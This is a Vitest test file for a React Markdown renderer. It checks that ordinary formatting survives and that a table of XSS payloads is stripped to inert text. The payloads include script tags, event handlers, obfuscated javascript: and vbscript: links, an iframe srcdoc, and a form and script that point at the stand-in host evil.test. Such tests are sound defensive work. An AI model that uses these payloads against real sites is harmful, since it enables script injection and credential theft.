import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { MarkdownText } from "./MarkdownText.tsx";

/** Renders as the page would, and lets a browser's parser say what came of it. */
function render(text: string): HTMLElement {
  const host = document.createElement("div");
  host.innerHTML = renderToStaticMarkup(<MarkdownText text={text} />);
  return host;
}

describe("Markdown of users", () => {
  test("keeps what Markdown is for", () => {
    const host = render("**bold** and `code`\n\n- one\n- two\n\n[home](https://example.com)");
    expect(host.querySelector("strong")?.textContent).toBe("bold");
    expect(host.querySelectorAll("li")).toHaveLength(2);
    const link = host.querySelector("a");
    expect([link?.getAttribute("href"), link?.getAttribute("rel")]).toEqual([
      "https://example.com",
      "nofollow noopener noreferrer",
    ]);
  });

  test.each([
    ["a script", "<script>alert(1)</script>"],
    ["a script after a paragraph", "Hello\n\n<script src=//evil.test/x.js></script>\n\nthere"],
    ["a picture that fails", '<img src=x onerror="alert(1)">'],
    ["a picture of Markdown", "![x](https://evil.test/track.gif)"],
    ["a link that runs", "[x](javascript:alert(1))"],
    [
      "a link that hides that it runs",
      "[x](java\tscript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](&#106;avascript:alert(1))",
    ],
    ["a link with data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
    ["an automatic link that runs", "<javascript:alert(1)>"],
    ["a reference that runs", "[x][1]\n\n[1]: vbscript:msgbox(1)"],
    ["a frame", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ["a drawing", "<svg onload=alert(1)><animate onbegin=alert(1)></svg>"],
    ["a form", '<form action="https://evil.test"><input name=password></form>'],
    ["a style", "<style>body{display:none}</style>"],
    ["a title that breaks out", '[x](https://example.com "\\" onmouseover=\\"alert(1)")'],
  ])("%s never runs, is never fetched, and stays text", (_, text) => {
    const host = render(text);
    expect(host.querySelector("script, img, iframe, svg, form, input, style, object, embed, base, meta")).toBeNull();
    for (const element of host.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on/i);
        if (name === "href") expect(value).toMatch(/^(https?:|mailto:|$)/);
      }
    }
  });
});
